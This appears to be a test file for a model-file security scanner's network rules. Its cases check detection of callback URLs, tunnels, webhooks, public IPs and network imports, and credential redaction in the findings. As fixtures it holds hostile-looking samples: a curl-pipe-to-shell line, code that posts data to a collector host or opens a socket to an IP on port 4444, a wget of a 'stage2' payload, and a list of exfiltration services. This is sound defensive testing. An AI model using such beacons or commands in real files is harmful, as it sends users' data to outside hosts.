import type { Fact, TextFact } from "@modelaudit/core";
import { describe, expect, it } from "vitest";
import { scanFacts, verdicts } from "./facts-handler.js";

const text = (value: string, key?: string, role: TextFact["role"] = "config"): Fact => ({
  kind: "text",
  text: value,
  role,
  ...(key && { key, location: { path: key } }),
});
const card = (line: string): Fact => ({
  kind: "text",
  text: line,
  key: "body",
  role: "documentation",
  location: { line: 3 },
});
const vocabulary = (token: string): Fact => ({ kind: "text", text: token, key: "model.vocab", role: "vocabulary" });
const pickled = (value: string, offset: number): Fact => ({
  kind: "text",
  text: value,
  role: "string-constant",
  location: { offset, stream: 0 },
});
const python = (source: string, path = "modeling_custom.py"): Fact => ({
  kind: "code",
  language: "python",
  text: source,
  location: { path },
});
const importOf = (module: string, name: string): Fact => ({
  kind: "import",
  module,
  name,
  via: "STACK_GLOBAL",
  location: { offset: 2 },
});
const callOf = (module: string, name: string, args: string[], via = "REDUCE"): Fact => ({
  kind: "call",
  callee: { module, name },
  via,
  args,
  location: { offset: 40 },
});

interface Case {
  name: string;
  facts: Fact[];
  expected: string[];
  options?: Record<string, unknown>;
}

const ok: Case[] = [
  {
    name: "vocabulary full of URL pieces and whole URLs",
    facts: [
      "http",
      "://",
      "www",
      ".com",
      "https://",
      "Ġhttp",
      "http://www.google.com",
      "45.77.12.3:4444",
      "https://evil.ngrok.io",
    ].map(vocabulary),
    expected: [],
  },
  {
    name: "model card documentation links",
    facts: [
      card("See [the paper](https://arxiv.org/abs/2106.09685) and https://github.com/org/repo."),
      card("Weights on https://huggingface.co/org/model, licence https://www.apache.org/licenses/LICENSE-2.0"),
      card("Visit https://mycompany.ai/blog for more."),
    ],
    expected: [],
  },
  {
    name: "fragments that are not URLs",
    facts: [
      text("http:// is the scheme", "note"),
      text("use https://localhostt or http://x", "a"),
      text("ftp://", "b"),
      text("see www.google.com", "c"),
      text("http://256.1.1.1:99999/x", "d"),
    ],
    expected: [],
  },
  {
    name: "placeholder and reserved hosts",
    facts: [
      text("https://example.com/callback", "callback_url"),
      text("curl https://example.invalid | sh", "note"),
      text("http://foo.test/x", "endpoint"),
      text("http://192.0.2.10:8080/", "server"),
    ],
    expected: [],
  },
  {
    name: "versions and numbers that look like addresses",
    facts: [
      text("1.2.3.4", "transformers_version"),
      text("v1.2.3.4", "note"),
      text("layer.1.2.3.4.weight", "name"),
      text("1.2.3.4.5", "x"),
      text("0.0.0.0", "bind"),
      text("255.255.255.0", "mask"),
      text("12:30:45", "time"),
      text("dead:beef:cafe", "x"),
    ],
    expected: [],
  },
  {
    name: "private addresses without a URL",
    facts: [
      text("10.0.0.1", "master_addr"),
      text("192.168.1.20:29500", "dist_url_host"),
      text("127.0.0.1", "host"),
      text("fe80::1", "ip"),
    ],
    expected: [],
  },
  {
    name: "file names in host keys",
    facts: [text("config.json", "server"), text("model.safetensors", "host")],
    expected: [],
  },
  {
    name: "allowHosts",
    facts: [text("https://models.acme.corp.com/x", "source_url"), text("http://45.77.12.3:4444/x", "callback")],
    options: { allowHosts: ["acme.corp.com", "45.77.12.3"] },
    expected: [],
  },
  {
    name: "data-only parts of network packages",
    facts: [importOf("requests.structures", "CaseInsensitiveDict"), importOf("urllib.parse", "urlencode")],
    expected: [],
  },
  {
    name: "doctest examples and comments in code",
    facts: [
      python(
        '"""Example:\n\n>>> url = "http://images.cocodataset.org/val2017/000000039769.jpg"\n>>> image = Image.open(requests.get(url, stream=True).raw)\n"""\n# fetched from https://storage.acme.net/x\nimport torch\n\ndef forward(x):\n    return torch.relu(x)\n',
      ),
    ],
    expected: [],
  },
  {
    name: "jinja templates are another detector's business",
    facts: [{ kind: "code", language: "jinja", text: "{{ 'http://45.77.12.3:4444' }}" }],
    expected: [],
  },
];

const ng: Case[] = [
  {
    name: "callback URL in a config key",
    facts: [text("http://45.77.12.3:4444/beacon", "callback_url")],
    expected: ["critical network/c2-indicator"],
  },
  {
    name: "documentation host in a callback key",
    facts: [text("https://huggingface.co/api/report", "telemetry.webhook")],
    expected: ["critical network/c2-indicator"],
  },
  {
    name: "callback-like keys",
    facts: ["beacon_url", "exfil", "c2_server", "command_and_control", "phone_home", "checkInUrl"].map((key) =>
      text("https://collector.acme-metrics.net/in", key),
    ),
    expected: Array(6).fill("critical network/c2-indicator"),
  },
  {
    name: "inline callback assignment in a text",
    facts: [text('{"exfil_url": "https://data.acme-metrics.net/up"}', "__metadata__.extra")],
    expected: ["critical network/c2-indicator"],
  },
  {
    name: "raw public IP with port",
    facts: [text("45.77.12.3:4444", "note"), text("tcp://8.8.4.4:53", "other")],
    expected: ["critical network/c2-indicator", "critical network/c2-indicator"],
  },
  {
    name: "tunnels, catchers, bot APIs and paste drops",
    facts: [
      "https://abc123.ngrok-free.app/x",
      "https://rough-sea.trycloudflare.com",
      "https://webhook.site/1234",
      "https://discord.com/api/webhooks/1/abc",
      "https://api.telegram.org/bot123:ABC/sendMessage",
      "https://pastebin.com/raw/xyz",
      "http://evil.duckdns.org/",
    ].map((url, index) => text(url, `k${index}`)),
    expected: Array(7).fill("critical network/c2-indicator"),
  },
  {
    name: "tunnels in model cards still count",
    facts: [card("Demo at https://abc.ngrok.io/ (temporary)")],
    expected: ["critical network/c2-indicator"],
  },
  {
    name: "shortener: critical in config, warning in a model card",
    facts: [text("https://bit.ly/3xyz", "source"), card("Slides: https://bit.ly/3abc")],
    expected: ["critical network/c2-indicator", "warning network/c2-indicator"],
  },
  {
    name: "URL to an unknown host in metadata",
    facts: [text("https://storage.acme-files.net/payload.bin", "__metadata__.source")],
    expected: ["warning network/url-in-metadata"],
  },
  {
    name: "documentation link in metadata is a note",
    facts: [
      text("https://huggingface.co/org/model", "general.source.url"),
      text("https://mycompany.ai/model", "general.url"),
    ],
    expected: ["info network/url-in-metadata", "info network/url-in-metadata"],
  },
  {
    name: "internal URL is a note",
    facts: [text("http://localhost:8080/v1", "api"), text("http://10.1.2.3/x", "mirror")],
    expected: ["info network/url-in-metadata", "info network/url-in-metadata"],
  },
  {
    name: "cloud buckets",
    facts: [text("s3://acme-training-dumps/run1", "output"), text("gs://some-bucket/path", "dest")],
    expected: ["warning network/url-in-metadata", "warning network/url-in-metadata"],
  },
  {
    name: "training metadata: dataset locations and tracker runs are notes",
    facts: [
      text("s3://acme-ml-datasets/sentiment/v3/train/*.parquet", "__metadata__.training_data"),
      text("gs://acme-ml-eval/sentiment/v3/validation-*.jsonl.gz", "notes"),
      text("https://storage.googleapis.com/acme-public/corpus/part-0001.parquet", "eval_dataset"),
      text("https://wandb.ai/acme-ml/sentiment-classifier/runs/3k9x2m1q", "wandb_run"),
      text("https://www.comet.com/acme/project/3f2e1d", "experiment"),
      pickled("train_data", 10),
      pickled("s3://acme-ml-datasets/v3/train", 24),
    ],
    expected: Array(6).fill("info network/url-in-metadata"),
  },
  {
    name: "a label written before the URL in a free-text field names it as well as the field's key",
    facts: [
      text("dataset_archive: http://images.cocodataset.org/zips/train2017.zip", "description"),
      text("upload_to: http://storage.acme-files.net/zips/train2017.zip", "description"),
    ],
    expected: ["info network/url-in-metadata", "warning network/url-in-metadata"],
  },
  {
    name: "buckets and URLs that are not dataset sources stay warnings",
    facts: [
      text("s3://acme-ml-datasets/train/*.parquet", "upload_to"),
      text("gs://acme-ml-eval/train-data/", "output_dir"),
      text("s3://acme-checkpoints/run-042", "checkpoint"),
      text("https://storage.acme-files.net/train/*.parquet", "mirror"),
      text("https://storage.acme-files.net/stage2", "training_data"),
    ],
    expected: Array(5).fill("warning network/url-in-metadata"),
  },
  {
    name: "a tracker URL under a callback key is still a C2 indicator",
    facts: [text("https://api.wandb.ai/files/acme/beacon", "callback_url")],
    expected: ["critical network/c2-indicator"],
  },
  {
    name: "bare host in a host key",
    facts: [text("data-sink.acme-metrics.net:8443", "server")],
    expected: ["warning network/url-in-metadata"],
  },
  {
    name: "public IPv4 and IPv6",
    facts: [
      text("45.77.12.3", "note"),
      text("2a03:2880:f12f:83:face:b00c::25de", "addr"),
      text("http://[2606:4700::1111]/x", "x"),
    ],
    expected: ["warning network/public-ip", "warning network/public-ip", "warning network/public-ip"],
  },
  {
    name: "pickled dict: callback key then URL",
    facts: [pickled("callback_url", 10), pickled("https://collector.acme-metrics.net/in", 24)],
    expected: ["critical network/c2-indicator"],
  },
  {
    name: "URL in a pickled call's arguments",
    facts: [callOf("builtins", "print", ['"https://huggingface.co/x"'])],
    expected: ["critical network/c2-indicator"],
  },
  {
    name: "pickled urlopen call with a URL",
    facts: [importOf("urllib.request", "urlopen"), callOf("urllib.request", "urlopen", ['"http://45.77.12.3/beacon"'])],
    expected: ["critical network/c2-indicator", "critical network/network-import"],
  },
  {
    name: "pickled network import without a call",
    facts: [
      importOf("socket", "socket"),
      importOf("http.client", "HTTPSConnection"),
      importOf("ssl", "get_server_certificate"),
    ],
    expected: Array(3).fill("warning network/network-import"),
  },
  {
    name: "torch.hub download call",
    facts: [callOf("torch.hub", "load_state_dict_from_url", ['"https://download.pytorch.org/x.pth"'])],
    expected: ["critical network/c2-indicator", "critical network/network-import"],
  },
  {
    name: "Keras config import of requests",
    facts: [
      { kind: "import", module: "requests", name: "post", via: "keras-config", location: { path: "config.layers[3]" } },
    ],
    expected: ["warning network/network-import"],
  },
  {
    name: "python code that posts to a URL",
    facts: [
      python('import requests\n\ndef save(x):\n    requests.post("https://collector.acme-metrics.net/in", data=x)\n'),
    ],
    expected: ["critical network/c2-indicator", "critical network/network-import"],
  },
  {
    name: "a script that downloads a pinned file from GitHub: a noted link, not a command channel",
    facts: [
      {
        kind: "code",
        language: "shell",
        text: 'wget -O convert.py "https://raw.githubusercontent.com/ggerganov/whisper.cpp/94aa56f1/models/convert-h5-to-ggml.py"\n',
        location: { path: "export_models.sh" },
      },
      {
        kind: "code",
        language: "shell",
        text: 'wget -O stage2 "https://files.acme-drop.net/stage2"\n',
        location: { path: "setup.sh" },
      },
    ],
    expected: ["info network/url-in-metadata", "critical network/c2-indicator"],
  },
  {
    name: "python code importing socket without a call",
    facts: [python("import socket\nfrom http import client\nx = 1\n")],
    expected: ["warning network/network-import", "warning network/network-import"],
  },
  {
    name: "aliased imports and from-imports",
    facts: [
      python("import urllib.request as u\nfrom ssl import get_server_certificate as g\nu.urlopen(x)\ng((host, 443))\n"),
    ],
    expected: ["critical network/network-import", "critical network/network-import"],
  },
  {
    name: "dynamic import",
    facts: [python('s = __import__("socket")\n')],
    expected: ["warning network/network-import"],
  },
  {
    name: "bytecode names with socket and connect",
    facts: [
      {
        kind: "code",
        language: "python-bytecode",
        text: "LOAD_GLOBAL socket",
        names: ["socket", "connect", "45.77.12.3", "sendall"],
        location: { path: "config.layers[2].lambda" },
      },
    ],
    expected: ["critical network/c2-indicator", "critical network/network-import"],
  },
  {
    name: "URL references",
    facts: [{ kind: "reference", target: "https://abc.ngrok.io/model.bin", referenceKind: "url", key: "weights" }],
    expected: ["critical network/c2-indicator"],
  },
  {
    name: "blocklist",
    facts: [
      text("https://cdn.badhost.io/x", "a"),
      card("mirror: https://badhost.io"),
      text("203.0.113.9", "b"),
      text("https://safe.org", "c"),
    ],
    options: { blocklist: ["https://badhost.io/", "203.0.113.9"] },
    expected: [...Array(3).fill("critical network/blocklisted-host"), "warning network/url-in-metadata"],
  },
  {
    name: "documentationHosts option",
    facts: [text("https://docs.acme.ai/m", "note")],
    options: { documentationHosts: ["acme.ai"] },
    expected: ["info network/url-in-metadata"],
  },
];

describe("network rules", () => {
  it.each(ok.map((entry) => [entry.name, entry] as const))("ok: %s", async (_name, entry) => {
    const report = await scanFacts(entry.facts, entry.options);
    expect(verdicts(report), JSON.stringify(report.findings.map((f) => f.message))).toEqual(entry.expected);
    expect(report.files[0]!.outcome).toBe("clean");
  });

  it.each(ng.map((entry) => [entry.name, entry] as const))("ng: %s", async (_name, entry) => {
    const report = await scanFacts(entry.facts, entry.options);
    expect(verdicts(report), JSON.stringify(report.findings.map((f) => f.message))).toEqual([...entry.expected].sort());
    expect(report.files[0]!.outcome).toBe("findings");
  });
});

describe("what a finding says", () => {
  it("names the key and the URL, with credentials redacted", async () => {
    const report = await scanFacts([
      text("https://admin:hunter2@collector.acme-metrics.net/in?token=abc&x=1", "callback_url"),
    ]);
    expect(report.findings[0]).toMatchObject({
      ruleId: "network/c2-indicator",
      messageId: "callbackKey",
      message:
        "callback_url is a callback-like field holding https://admin:***@collector.acme-metrics.net/in?token=***&x=1",
      evidence: "https://admin:***@collector.acme-metrics.net/in?token=***&x=1",
      location: { path: "callback_url" },
    });
    expect(JSON.stringify(report)).not.toContain("hunter2");
  });

  it("stars bot tokens and webhook tokens", async () => {
    const report = await scanFacts([
      text(
        "https://api.telegram.org/bot123456:AAEsecret/sendMessage https://discord.com/api/webhooks/42/tokenvalue",
        "x",
      ),
    ]);
    const text_ = JSON.stringify(report);
    expect(text_).not.toContain("AAEsecret");
    expect(text_).not.toContain("tokenvalue");
  });

  it("reads a docstring assigned to __doc__, and its concatenated parts, as documentation", async () => {
    // torch's nn classes (ConvTranspose2d) write theirs as `__doc__ = r"""...""".format(**notes) + r"""..."""`.
    const source = [
      "class ConvTranspose2d(_ConvTransposeNd):",
      '    __doc__ = r"""Applies a 2D transposed convolution.',
      "    See https://www.deconv-notes.org/intro.html",
      '    """.format(**reproducibility_notes) + r"""',
      "    .. _`Deconvolutional Networks`:",
      "        https://www.matthewzeiler.com/mattzeiler/deconvolutionalnetworks.pdf",
      '    """',
      "",
      "    def forward(self, input):",
      '        return self.load("https://www.matthewzeiler.com/weights.bin")',
      "",
    ].join("\n");
    const report = await scanFacts([python(source, "conv.py")]);
    // Only the URL in code is judged as one; the two in the docstring are prose.
    expect(report.findings.map((finding) => [finding.ruleId, finding.severity, finding.location?.line])).toEqual([
      ["network/url-in-metadata", "warning", 10],
    ]);
  });

  it("gives the line of code where a URL sits", async () => {
    const report = await scanFacts([python('import socket\n\n\ns = socket.create_connection(("45.77.12.3", 4444))\n')]);
    expect(report.findings.map((finding) => [finding.ruleId, finding.location?.line, finding.message]).sort()).toEqual([
      ["network/c2-indicator", 4, "modeling_custom.py:4 calls the network and names 45.77.12.3"],
      ["network/network-import", 4, "modeling_custom.py:4 calls network function socket.create_connection"],
    ]);
  });
});
